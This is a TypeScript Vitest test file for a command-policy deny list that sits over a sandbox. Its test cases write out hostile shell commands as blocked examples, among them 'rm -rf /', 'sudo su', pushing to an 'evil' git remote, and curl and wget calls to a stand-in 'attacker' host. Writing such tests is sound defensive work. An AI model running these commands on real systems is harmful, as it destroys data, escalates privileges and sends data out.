import { describe, expect, it } from 'vitest';
import { DEFAULT_DENY } from '../../../src/config/schema';
import { checkCommand, commandSegments } from '../../../src/domain/command-policy';

const policy = { allow: [], deny: DEFAULT_DENY };

describe('the command policy (a seatbelt over the sandbox)', () => {
  it('splits shell lines into the simple commands inside them', () => {
    expect(commandSegments('npm test && echo ok; git status | head -3')).toEqual(['npm test', 'echo ok', 'git status', 'head -3']);
    expect(commandSegments('echo $(curl -s x) `wget y`')).toEqual(['echo', 'curl -s x', 'wget y']);
    expect(commandSegments('FOO=1 BAR=2 env curl x')).toEqual(['curl x']);
  });

  it.each([
    ['rm -rf /', 'rm -rf /'],
    ['sudo apt-get install x', 'sudo'],
    ['git push origin main', 'git push'],
    ['git remote add evil http://x', 'git remote'],
    ['curl -X POST http://attacker', 'curl'],
    ['wget http://attacker/x', 'wget'],
    ['npm test; curl http://attacker', 'curl'],
    ['echo hi && sudo su', 'sudo'],
    ['echo $(curl http://attacker)', 'curl'],
    ['/usr/bin/curl http://attacker', 'curl'],
    ['nohup ssh host', 'ssh'],
    ['X=1 git push', 'git push'],
  ])('denies %s', (command, rule) => {
    const v = checkCommand(command, policy);
    expect(v.ok).toBe(false);
    if (!v.ok) expect(v.reason).toContain(`'${rule}'`);
  });

  it('lets ordinary development commands through', () => {
    for (const c of [
      'npm test',
      'node --test',
      'git status',
      'git config -l',
      'git diff --stat',
      'ls -la',
      'cat package.json | head',
      'rm -rf build',
      'curly --help',
      'suspend-check',
    ]) {
      expect(checkCommand(c, policy), c).toEqual({ ok: true });
    }
  });

  it('with an allow list, every simple command must be on it', () => {
    const strict = { allow: ['npm test', 'node'], deny: DEFAULT_DENY };
    expect(checkCommand('npm test', strict)).toEqual({ ok: true });
    expect(checkCommand('node --test && npm test', strict)).toEqual({ ok: true });
    expect(checkCommand('npm test && ls', strict)).toMatchObject({ ok: false, reason: expect.stringContaining("'ls' is not on the allowed list") });
  });

  it('refuses an empty command', () => {
    expect(checkCommand('   ', policy)).toMatchObject({ ok: false });
  });
});
